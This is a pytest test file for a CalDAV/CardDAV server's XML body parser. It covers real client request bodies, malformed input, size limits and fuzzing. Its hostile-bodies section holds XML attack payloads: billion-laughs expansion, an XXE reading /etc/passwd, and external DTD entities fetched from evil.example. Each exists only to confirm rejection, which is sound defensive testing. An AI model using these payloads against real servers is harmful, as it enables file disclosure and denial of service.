"""
DAV request bodies: each method's and report's body as real clients shape
them (Apple Calendar and Contacts, Thunderbird, DAVx5, the python caldav
library), hostile XML, malformed XML, and fuzzing.
"""

from __future__ import annotations

from collections.abc import Callable
from datetime import UTC, datetime

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from gk.dav.xmlbody import (
    ALLPROP,
    CALENDARSERVER,
    AddressbookMultiget,
    AddressbookQuery,
    BadRequestBody,
    BodyTooLarge,
    CalendarMultiget,
    CalendarQuery,
    ExpandProperty,
    FreeBusyQuery,
    PrincipalPropertySearch,
    PrincipalSearchPropertySet,
    PropertyRequest,
    PropertySearch,
    PropFind,
    SyncCollection,
    TimeRange,
    UnsupportedReport,
    c,
    cs,
    d,
    href_to_path,
    ical,
    parse_mkcol,
    parse_propfind,
    parse_proppatch,
    parse_report,
    parse_utc,
    parse_xml,
    r,
    text_of,
)

LIMIT = 1 << 20


def report(body: str, base: str = "/") -> object:
    return parse_report(body.encode(), max_size=LIMIT, base=base)


# --- PROPFIND ---------------------------------------------------------------


@pytest.mark.parametrize("body", [b"", b"  \r\n\t "])
def test_an_empty_propfind_is_allprop(body: bytes) -> None:
    assert parse_propfind(body, max_size=LIMIT) == ALLPROP == PropFind("allprop")


def test_apple_principal_propfind() -> None:
    body = b"""<?xml version="1.0" encoding="UTF-8"?>
<A:propfind xmlns:A="DAV:">
  <A:prop>
    <B:calendar-home-set xmlns:B="urn:ietf:params:xml:ns:caldav"/>
    <B:calendar-user-address-set xmlns:B="urn:ietf:params:xml:ns:caldav"/>
    <A:current-user-principal/>
    <A:displayname/>
    <C:email-address-set xmlns:C="http://calendarserver.org/ns/"/>
    <A:principal-URL/>
    <B:schedule-inbox-URL xmlns:B="urn:ietf:params:xml:ns:caldav"/>
    <A:supported-report-set/>
  </A:prop>
</A:propfind>
"""
    assert parse_propfind(body, max_size=LIMIT) == PropFind(
        "prop",
        (
            c("calendar-home-set"),
            c("calendar-user-address-set"),
            d("current-user-principal"),
            d("displayname"),
            cs("email-address-set"),
            d("principal-URL"),
            c("schedule-inbox-URL"),
            d("supported-report-set"),
        ),
    )


def test_thunderbird_calendar_propfind_with_default_namespace() -> None:
    body = b"""<?xml version="1.0" encoding="UTF-8"?>
<D:propfind xmlns:D="DAV:" xmlns:CS="http://calendarserver.org/ns/"
    xmlns:C="urn:ietf:params:xml:ns:caldav">
<D:prop><D:resourcetype/><D:owner/><D:current-user-principal/>
<D:current-user-privilege-set/><D:supported-report-set/>
<C:supported-calendar-component-set/><CS:getctag/></D:prop></D:propfind>"""
    result = parse_propfind(body, max_size=LIMIT)
    assert result.kind == "prop" and result.include == ()
    assert result.names[-2:] == (c("supported-calendar-component-set"), cs("getctag"))


def test_davx5_home_set_propfind_and_duplicates() -> None:
    body = b"""<?xml version='1.0' encoding='UTF-8' ?>
<propfind xmlns="DAV:" xmlns:CAL="urn:ietf:params:xml:ns:caldav"
 xmlns:ICAL="http://apple.com/ns/ical/"><prop><resourcetype /><displayname />
<ICAL:calendar-color /><CAL:calendar-description /><sync-token /><displayname />
<unknown xmlns="" /></prop></propfind>"""
    result = parse_propfind(body, max_size=LIMIT)
    assert result.names == (
        d("resourcetype"),
        d("displayname"),
        ical("calendar-color"),
        c("calendar-description"),
        d("sync-token"),
        "unknown",
    )


def test_allprop_with_include_and_propname() -> None:
    body = b"""<D:propfind xmlns:D="DAV:"><D:allprop/><D:include>
<D:supported-report-set/><C:calendar-description xmlns:C="urn:ietf:params:xml:ns:caldav"/>
</D:include></D:propfind>"""
    assert parse_propfind(body, max_size=LIMIT) == PropFind(
        "allprop", (), (d("supported-report-set"), c("calendar-description"))
    )
    body = b'<propfind xmlns="DAV:"><propname/><x:future xmlns:x="urn:x"/></propfind>'
    assert parse_propfind(body, max_size=LIMIT) == PropFind("propname")
    assert parse_propfind(b'<propfind xmlns="DAV:"><prop/></propfind>', max_size=LIMIT) == (
        PropFind("prop")
    )


@pytest.mark.parametrize(
    "body",
    [
        b'<propfind xmlns="DAV:"/>',
        b'<propfind xmlns="DAV:"><allprop/><prop><getetag/></prop></propfind>',
        b"<propfind><prop><getetag/></prop></propfind>",
        b'<propertyupdate xmlns="DAV:"/>',
    ],
)
def test_bad_propfind(body: bytes) -> None:
    with pytest.raises(BadRequestBody):
        parse_propfind(body, max_size=LIMIT)


# --- PROPPATCH, MKCOL, MKCALENDAR -------------------------------------------

TIMEZONE = (
    "BEGIN:VCALENDAR\r\nBEGIN:VTIMEZONE\r\nTZID:Europe/Berlin\r\nEND:VTIMEZONE\r\nEND:VCALENDAR\r\n"
)


def test_apple_proppatch_keeps_order_and_values() -> None:
    body = f"""<?xml version="1.0" encoding="UTF-8"?>
<A:propertyupdate xmlns:A="DAV:">
  <A:set><A:prop>
    <B:calendar-color xmlns:B="http://apple.com/ns/ical/"
      symbolic-color="custom">#FF2968FF</B:calendar-color>
    <A:displayname>Work &amp; Play</A:displayname>
  </A:prop></A:set>
  <A:remove><A:prop><D:calendar-description xmlns:D="urn:ietf:params:xml:ns:caldav"/>
  </A:prop></A:remove>
  <A:set><A:prop>
    <B:calendar-order xmlns:B="http://apple.com/ns/ical/">3</B:calendar-order>
    <D:calendar-timezone xmlns:D="urn:ietf:params:xml:ns:caldav"
      ><![CDATA[{TIMEZONE}]]></D:calendar-timezone>
    <D:supported-calendar-component-set xmlns:D="urn:ietf:params:xml:ns:caldav">
      <D:comp name="VEVENT"/><D:comp name="VTODO"/></D:supported-calendar-component-set>
  </A:prop></A:set>
</A:propertyupdate>""".encode()
    ops = parse_proppatch(body, max_size=LIMIT).operations
    assert [(kind, name) for kind, name, _ in ops] == [
        ("set", ical("calendar-color")),
        ("set", d("displayname")),
        ("remove", c("calendar-description")),
        ("set", ical("calendar-order")),
        ("set", c("calendar-timezone")),
        ("set", c("supported-calendar-component-set")),
    ]
    color, name, removed, _, timezone, components = (element for _, _, element in ops)
    assert color is not None and color.get("symbolic-color") == "custom"
    assert text_of(color) == "#FF2968FF"
    assert name is not None and text_of(name) == "Work & Play"
    assert removed is None
    # The parser normalises line ends, as every XML parser must.
    assert timezone is not None and text_of(timezone) == TIMEZONE.replace("\r\n", "\n")
    assert components is not None
    assert [comp.get("name") for comp in components] == ["VEVENT", "VTODO"]


@pytest.mark.parametrize(
    "body",
    [
        b'<propertyupdate xmlns="DAV:"/>',
        b'<propertyupdate xmlns="DAV:"><set><displayname>x</displayname></set></propertyupdate>',
        b'<propfind xmlns="DAV:"><allprop/></propfind>',
        b"",
    ],
)
def test_bad_proppatch(body: bytes) -> None:
    with pytest.raises(BadRequestBody):
        parse_proppatch(body, max_size=LIMIT)


def test_apple_mkcalendar() -> None:
    body = f"""<?xml version="1.0" encoding="UTF-8"?>
<B:mkcalendar xmlns:B="urn:ietf:params:xml:ns:caldav"><A:set xmlns:A="DAV:"><A:prop>
<A:displayname>Holidays</A:displayname>
<D:calendar-color xmlns:D="http://apple.com/ns/ical/">#63DA38FF</D:calendar-color>
<B:supported-calendar-component-set><B:comp name="VEVENT"/></B:supported-calendar-component-set>
<B:calendar-timezone>{TIMEZONE}</B:calendar-timezone>
</A:prop></A:set></B:mkcalendar>""".encode()
    result = parse_mkcol(body, max_size=LIMIT, calendar=True)
    assert result.resourcetype == (d("collection"), c("calendar"))
    assert [p.tag for p in result.props] == [
        d("displayname"),
        ical("calendar-color"),
        c("supported-calendar-component-set"),
        c("calendar-timezone"),
    ]
    assert text_of(result.props[0]) == "Holidays"


def test_empty_mkcol_and_mkcalendar() -> None:
    assert parse_mkcol(b"", max_size=LIMIT).resourcetype == (d("collection"),)
    made = parse_mkcol(b"", max_size=LIMIT, calendar=True)
    assert made.resourcetype == (d("collection"), c("calendar")) and made.props == ()


def test_davx5_extended_mkcol_for_an_address_book() -> None:
    body = b"""<?xml version='1.0' encoding='UTF-8' ?><mkcol xmlns="DAV:"
 xmlns:CARD="urn:ietf:params:xml:ns:carddav"><set><prop>
<resourcetype><collection /><CARD:addressbook /></resourcetype>
<displayname>Friends</displayname>
<CARD:addressbook-description>Close ones</CARD:addressbook-description>
</prop></set></mkcol>"""
    result = parse_mkcol(body, max_size=LIMIT)
    assert result.resourcetype == (d("collection"), r("addressbook"))
    assert [(p.tag, p.text) for p in result.props] == [
        (d("displayname"), "Friends"),
        (r("addressbook-description"), "Close ones"),
    ]


def test_mkcol_with_the_wrong_root() -> None:
    with pytest.raises(BadRequestBody):
        parse_mkcol(b'<mkcol xmlns="DAV:"/>', max_size=LIMIT, calendar=True)
    with pytest.raises(BadRequestBody):
        parse_mkcol(b'<mkcalendar xmlns="urn:ietf:params:xml:ns:caldav"/>', max_size=LIMIT)


# --- REPORT -----------------------------------------------------------------

WINDOW = TimeRange(datetime(2024, 1, 1, tzinfo=UTC), datetime(2024, 2, 1, tzinfo=UTC))


def test_caldav_library_calendar_query_with_expand() -> None:
    result = report("""<?xml version='1.0' encoding='utf-8'?>
<C:calendar-query xmlns:C="urn:ietf:params:xml:ns:caldav" xmlns:D="DAV:"><D:prop>
<C:calendar-data><C:expand start="20240101T000000Z" end="20240201T000000Z"/></C:calendar-data>
</D:prop><C:filter><C:comp-filter name="VCALENDAR"><C:comp-filter name="VEVENT">
<C:time-range start="20240101T000000Z" end="20240201T000000Z"/></C:comp-filter></C:comp-filter>
</C:filter></C:calendar-query>""")
    assert isinstance(result, CalendarQuery)
    assert result.prop == PropFind("prop", (c("calendar-data"),))
    assert result.filter.tag == c("filter") and result.timezone is None
    assert result.filter[0].get("name") == "VCALENDAR"
    assert result.calendar_data is not None and result.calendar_data.expand == WINDOW
    assert result.calendar_data.limit_recurrence_set is None


def test_thunderbird_calendar_query_for_etags_with_a_timezone() -> None:
    result = report(f"""<?xml version="1.0" encoding="UTF-8"?>
<calendar-query xmlns:D="DAV:" xmlns="urn:ietf:params:xml:ns:caldav"><D:prop><D:getetag/></D:prop>
<filter><comp-filter name="VCALENDAR"><comp-filter name="VTODO"/></comp-filter></filter>
<timezone>{TIMEZONE}</timezone></calendar-query>""")
    assert isinstance(result, CalendarQuery) and result.prop.names == (d("getetag"),)
    assert result.timezone is not None and "TZID:Europe/Berlin" in result.timezone
    assert result.calendar_data is None


def test_calendar_query_needs_a_filter_and_accepts_no_prop() -> None:
    with pytest.raises(BadRequestBody):
        report('<calendar-query xmlns="urn:ietf:params:xml:ns:caldav"/>')
    result = report(
        '<C:calendar-query xmlns:C="urn:ietf:params:xml:ns:caldav"><C:filter/>'
        "<C:timezone-id>Europe/Berlin</C:timezone-id></C:calendar-query>"
    )
    assert isinstance(result, CalendarQuery) and result.prop == PropFind("prop")
    assert result.timezone_id == "Europe/Berlin"


def test_davx5_calendar_multiget_with_encoded_and_absolute_hrefs() -> None:
    result = report(
        """<?xml version='1.0' encoding='UTF-8' ?><CAL:calendar-multiget xmlns="DAV:"
 xmlns:CAL="urn:ietf:params:xml:ns:caldav"><prop><getetag /><CAL:calendar-data /></prop>
<href>/dav/calendars/anna/home/a%20b%C3%A9.ics</href>
<href>https://mail.example.test/dav/calendars/anna/home/c%23d.ics</href>
<href> rel%3F.ics </href><href>/dav/calendars/anna/home/a%20b%C3%A9.ics</href>
</CAL:calendar-multiget>""",
        base="/dav/calendars/anna/home/",
    )
    assert isinstance(result, CalendarMultiget)
    assert result.hrefs == (
        "/dav/calendars/anna/home/a bé.ics",
        "/dav/calendars/anna/home/c#d.ics",
        "/dav/calendars/anna/home/rel?.ics",
    )
    assert result.calendar_data is not None and result.calendar_data.expand is None


def test_multiget_needs_good_hrefs() -> None:
    start = '<C:calendar-multiget xmlns:C="urn:ietf:params:xml:ns:caldav" xmlns:D="DAV:">'
    for inner in ["<D:prop/>", "<D:href>mailto:a@b</D:href>", "<D:href>/a/../b</D:href>"]:
        with pytest.raises(BadRequestBody):
            report(f"{start}{inner}</C:calendar-multiget>")


def test_free_busy_query() -> None:
    result = report("""<?xml version="1.0" encoding="utf-8" ?>
<C:free-busy-query xmlns:C="urn:ietf:params:xml:ns:caldav">
<C:time-range start="20240101T000000Z" end="20240201T000000Z"/></C:free-busy-query>""")
    assert result == FreeBusyQuery(WINDOW)
    open_ended = report(
        '<free-busy-query xmlns="urn:ietf:params:xml:ns:caldav">'
        '<time-range start="20240101T000000Z"/></free-busy-query>'
    )
    assert open_ended == FreeBusyQuery(TimeRange(WINDOW.start, None))


@pytest.mark.parametrize(
    "attributes",
    ["", 'start="20240101"', 'start="20240101T000000"', 'start="20241301T000000Z"',
     'start="20240201T000000Z" end="20240101T000000Z"'],
)  # fmt: skip
def test_bad_time_ranges(attributes: str) -> None:
    with pytest.raises(BadRequestBody):
        report(
            '<free-busy-query xmlns="urn:ietf:params:xml:ns:caldav">'
            f"<time-range {attributes}/></free-busy-query>"
        )


def test_parse_utc() -> None:
    assert parse_utc("20060104T000000Z") == datetime(2006, 1, 4, tzinfo=UTC)
    with pytest.raises(BadRequestBody):
        parse_utc("2006-01-04T00:00:00Z")


def test_addressbook_query_with_a_limit() -> None:
    result = report("""<?xml version="1.0" encoding="utf-8" ?>
<C:addressbook-query xmlns:D="DAV:" xmlns:C="urn:ietf:params:xml:ns:carddav">
<D:prop><D:getetag/><C:address-data><C:prop name="FN"/><C:prop name="EMAIL"/></C:address-data>
</D:prop><C:filter test="anyof"><C:prop-filter name="FN"><C:text-match collation="i;unicode-casemap"
 match-type="contains">daboo</C:text-match></C:prop-filter></C:filter>
<C:limit><C:nresults>25</C:nresults></C:limit></C:addressbook-query>""")
    assert isinstance(result, AddressbookQuery)
    assert result.prop.names == (d("getetag"), r("address-data"))
    assert result.filter.get("test") == "anyof" and result.limit == 25
    assert result.address_data is not None and len(result.address_data) == 2
    no_filter, zero = "", "<C:filter/><C:limit><C:nresults>0</C:nresults></C:limit>"
    for bad in [no_filter, zero, "<C:filter/><C:limit/>"]:
        with pytest.raises(BadRequestBody):
            report(
                '<C:addressbook-query xmlns:C="urn:ietf:params:xml:ns:carddav">'
                f"{bad}</C:addressbook-query>"
            )


def test_apple_contacts_addressbook_multiget() -> None:
    result = report("""<?xml version="1.0" encoding="UTF-8"?>
<A:addressbook-multiget xmlns:A="urn:ietf:params:xml:ns:carddav"><B:prop xmlns:B="DAV:">
<B:getetag/><A:address-data content-type="text/vcard" version="3.0"/></B:prop>
<B:href xmlns:B="DAV:">/dav/addressbooks/anna/contacts/0A1B-2C.vcf</B:href>
</A:addressbook-multiget>""")
    assert isinstance(result, AddressbookMultiget)
    assert result.hrefs == ("/dav/addressbooks/anna/contacts/0A1B-2C.vcf",)
    assert result.address_data is not None and result.address_data.get("version") == "3.0"


def test_davx5_initial_sync_collection() -> None:
    result = report("""<?xml version='1.0' encoding='UTF-8' ?><sync-collection xmlns="DAV:">
<sync-token /><sync-level>1</sync-level><prop><getcontenttype /><getetag /></prop>
</sync-collection>""")
    assert result == SyncCollection("", "1", PropFind("prop", (d("getcontenttype"), d("getetag"))))


def test_sync_collection_with_token_limit_and_depth() -> None:
    result = report("""<D:sync-collection xmlns:D="DAV:" xmlns:C="urn:ietf:params:xml:ns:caldav">
<D:sync-token>
  http://gk.example.test/sync/1234
</D:sync-token><D:sync-level>infinite</D:sync-level>
<D:limit><D:nresults>100</D:nresults></D:limit>
<D:prop><D:getetag/><C:calendar-data/></D:prop></D:sync-collection>""")
    assert isinstance(result, SyncCollection)
    assert result.sync_token == "http://gk.example.test/sync/1234"
    assert result.sync_level == "infinite" and result.limit == 100
    assert result.calendar_data is not None and result.address_data is None
    # Clients older than RFC 6578 send no sync-level.
    old = report('<sync-collection xmlns="DAV:"><sync-token/><prop/></sync-collection>')
    assert isinstance(old, SyncCollection) and old.sync_level == "1"
    with pytest.raises(BadRequestBody):
        report('<sync-collection xmlns="DAV:"><sync-level>2</sync-level></sync-collection>')


def test_apple_expand_property_for_proxies() -> None:
    result = report("""<?xml version="1.0" encoding="UTF-8"?>
<A:expand-property xmlns:A="DAV:">
  <A:property name="calendar-proxy-write-for" namespace="http://calendarserver.org/ns/">
    <A:property name="displayname" namespace="DAV:"/>
    <A:property name="principal-URL"/>
    <A:property name="calendar-user-address-set" namespace="urn:ietf:params:xml:ns:caldav"/>
  </A:property>
  <A:property name="calendar-proxy-read-for" namespace="http://calendarserver.org/ns/"/>
</A:expand-property>""")
    leaves = (
        PropertyRequest(d("displayname")),
        PropertyRequest(d("principal-URL")),
        PropertyRequest(c("calendar-user-address-set")),
    )
    assert result == ExpandProperty(
        (
            PropertyRequest(cs("calendar-proxy-write-for"), leaves),
            PropertyRequest(cs("calendar-proxy-read-for")),
        )
    )
    with pytest.raises(BadRequestBody):
        report('<expand-property xmlns="DAV:"><property namespace="DAV:"/></expand-property>')


def test_apple_principal_property_search() -> None:
    result = report("""<?xml version="1.0" encoding="UTF-8"?>
<A:principal-property-search xmlns:A="DAV:" test="anyof">
  <A:apply-to-principal-collection-set/>
  <A:property-search><A:prop><A:displayname/></A:prop>
    <A:match match-type="starts-with">Ann</A:match></A:property-search>
  <A:property-search><A:prop><C:email-address-set xmlns:C="http://calendarserver.org/ns/"/></A:prop>
    <A:match match-type="starts-with">ann</A:match></A:property-search>
  <A:prop><A:displayname/><A:principal-URL/></A:prop>
</A:principal-property-search>""")
    assert result == PrincipalPropertySearch(
        (
            PropertySearch((d("displayname"),), "Ann", "starts-with"),
            PropertySearch((cs("email-address-set"),), "ann", "starts-with"),
        ),
        "anyof",
        PropFind("prop", (d("displayname"), d("principal-URL"))),
        True,
    )
    plain = report(
        '<principal-property-search xmlns="DAV:"><property-search><prop><displayname/></prop>'
        "<match>bob</match></property-search></principal-property-search>"
    )
    assert isinstance(plain, PrincipalPropertySearch) and plain.test == "allof"
    assert plain.searches[0].match_type == "contains" and plain.prop == PropFind("prop")
    for bad in ['<property-search><prop/><match match-type="regex">x</match></property-search>',
                "<property-search><prop/></property-search>", ""]:  # fmt: skip
        with pytest.raises(BadRequestBody):
            report(f'<principal-property-search xmlns="DAV:">{bad}</principal-property-search>')


def test_principal_search_property_set() -> None:
    body = '<?xml version="1.0"?><principal-search-property-set xmlns="DAV:"/>'
    assert report(body) == PrincipalSearchPropertySet()


@pytest.mark.parametrize(
    ("root", "name"),
    [
        (
            f'<A:calendarserver-principal-search xmlns:A="{CALENDARSERVER}"/>',
            cs("calendarserver-principal-search"),
        ),
        ('<acl-principal-prop-set xmlns="DAV:"/>', d("acl-principal-prop-set")),
        ("<calendar-query/>", "calendar-query"),
    ],
)
def test_unknown_reports(root: str, name: str) -> None:
    with pytest.raises(UnsupportedReport) as caught:
        report(root)
    assert caught.value.name == name


def test_an_empty_report_is_bad() -> None:
    with pytest.raises(BadRequestBody):
        parse_report(b"", max_size=LIMIT)


def test_href_to_path() -> None:
    assert href_to_path("/dav/a%2Fb/") == "/dav/a/b/"
    assert href_to_path("HTTPS://host:8443") == "/"
    assert href_to_path("x.ics", "/dav/cal") == "/dav/x.ics"
    assert href_to_path("x.ics?q=1#f", "/dav/cal/") == "/dav/cal/x.ics"
    for bad in ["", "   ", "/a/%FF", "/a/%00", "/a/%2e%2e/b", "ftp://h/a", "http://[::1/"]:
        with pytest.raises(BadRequestBody):
            href_to_path(bad)


# --- hostile and malformed bodies -------------------------------------------

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>
<propfind xmlns="DAV:"><prop><displayname>&lol3;</displayname></prop></propfind>"""
EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE p [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<propertyupdate xmlns="DAV:"><set><prop><displayname>&xxe;</displayname></prop></set>
</propertyupdate>"""
EXTERNAL_DTD = b"""<?xml version="1.0"?><!DOCTYPE propfind SYSTEM "http://evil.example/x.dtd">
<propfind xmlns="DAV:"><allprop/></propfind>"""
PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE r [<!ENTITY % remote SYSTEM "http://evil.example/e.dtd"> %remote;]>
<propfind xmlns="DAV:"><allprop/></propfind>"""
PLAIN_DTD = b"""<!DOCTYPE propfind [<!ELEMENT propfind ANY>]>
<propfind xmlns="DAV:"><allprop/></propfind>"""

PARSERS: dict[str, Callable[[bytes], object]] = {
    "propfind": lambda b: parse_propfind(b, max_size=LIMIT),
    "proppatch": lambda b: parse_proppatch(b, max_size=LIMIT),
    "mkcol": lambda b: parse_mkcol(b, max_size=LIMIT),
    "mkcalendar": lambda b: parse_mkcol(b, max_size=LIMIT, calendar=True),
    "report": lambda b: parse_report(b, max_size=LIMIT),
}


@pytest.mark.parametrize("parser", PARSERS.values(), ids=list(PARSERS))
@pytest.mark.parametrize(
    "body",
    [BILLION_LAUGHS, EXTERNAL_ENTITY, EXTERNAL_DTD, PARAMETER_ENTITY, PLAIN_DTD],
    ids=["billion-laughs", "external-entity", "external-dtd", "parameter-entity", "dtd"],
)
def test_hostile_bodies_are_rejected(parser: Callable[[bytes], object], body: bytes) -> None:
    with pytest.raises(BadRequestBody):
        parser(body)


@pytest.mark.parametrize(
    "body",
    [
        b'<propfind xmlns="DAV:"><allprop/>',
        b"<D:propfind><D:allprop/></D:propfind>",
        b'<propfind xmlns="DAV:"><prop>&nbsp;</prop></propfind>',
        b'<propfind xmlns="DAV:"/><propfind xmlns="DAV:"/>',
        b"not xml at all",
        b'<?xml version="1.0" encoding="x-no-such-encoding"?><propfind xmlns="DAV:"/>',
        b'<?xml version="1.0" encoding="utf-8"?><propfind xmlns="DAV:">\xff\xfe</propfind>',
        b"\x00<a/>",
    ],
)
def test_malformed_bodies_are_rejected(body: bytes) -> None:
    for parser in PARSERS.values():
        with pytest.raises(BadRequestBody):
            parser(body)


def test_limits() -> None:
    body = b'<propfind xmlns="DAV:"><allprop/></propfind>'
    assert parse_propfind(body, max_size=len(body)) == ALLPROP
    with pytest.raises(BodyTooLarge):
        parse_propfind(body, max_size=len(body) - 1)
    deep = b"<a>" * 65 + b"</a>" * 65
    with pytest.raises(BadRequestBody):
        parse_xml(deep, max_size=LIMIT)
    assert parse_xml(deep, max_size=LIMIT, max_depth=65) is not None
    wide = b"<a>" + b"<b/>" * 11 + b"</a>"
    with pytest.raises(BadRequestBody):
        parse_xml(wide, max_size=LIMIT, max_elements=11)


def test_other_encodings_are_read() -> None:
    body = '<?xml version="1.0" encoding="UTF-16"?><propfind xmlns="DAV:"><propname/></propfind>'
    assert parse_propfind(body.encode("utf-16"), max_size=LIMIT) == PropFind("propname")
    latin = '<?xml version="1.0" encoding="ISO-8859-1"?><mkcol xmlns="DAV:"><set><prop>'
    latin += "<displayname>Café</displayname></prop></set></mkcol>"
    made = parse_mkcol(latin.encode("latin-1"), max_size=LIMIT)
    assert made.props[0].text == "Café"


# --- fuzzing ----------------------------------------------------------------

SEEDS = [
    BILLION_LAUGHS,
    b'<D:propfind xmlns:D="DAV:"><D:prop><D:getetag/></D:prop></D:propfind>',
    b'<propertyupdate xmlns="DAV:"><set><prop><displayname>x</displayname></prop></set>'
    b"<remove><prop><x/></prop></remove></propertyupdate>",
    b'<C:calendar-multiget xmlns:C="urn:ietf:params:xml:ns:caldav" xmlns:D="DAV:">'
    b"<D:href>/a%20b</D:href></C:calendar-multiget>",
    b'<C:free-busy-query xmlns:C="urn:ietf:params:xml:ns:caldav"><C:time-range '
    b'start="20240101T000000Z" end="20240201T000000Z"/></C:free-busy-query>',
    b'<sync-collection xmlns="DAV:"><sync-token/><sync-level>1</sync-level>'
    b"<limit><nresults>5</nresults></limit><prop/></sync-collection>",
    b'<expand-property xmlns="DAV:"><property name="a"><property name="b"/></property>'
    b"</expand-property>",
]


@st.composite
def mutated(draw: st.DrawFn) -> bytes:
    """A realistic body with a slice replaced by random bytes."""
    seed = draw(st.sampled_from(SEEDS))
    start = draw(st.integers(0, len(seed)))
    end = draw(st.integers(start, len(seed)))
    return seed[:start] + draw(st.binary(max_size=12)) + seed[end:]


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.one_of(st.binary(max_size=300), mutated()))
def test_fuzzed_bodies_raise_only_documented_errors(body: bytes) -> None:
    for name, parser in PARSERS.items():
        try:
            parser(body)
        except BadRequestBody:
            pass
        except UnsupportedReport:
            assert name == "report"
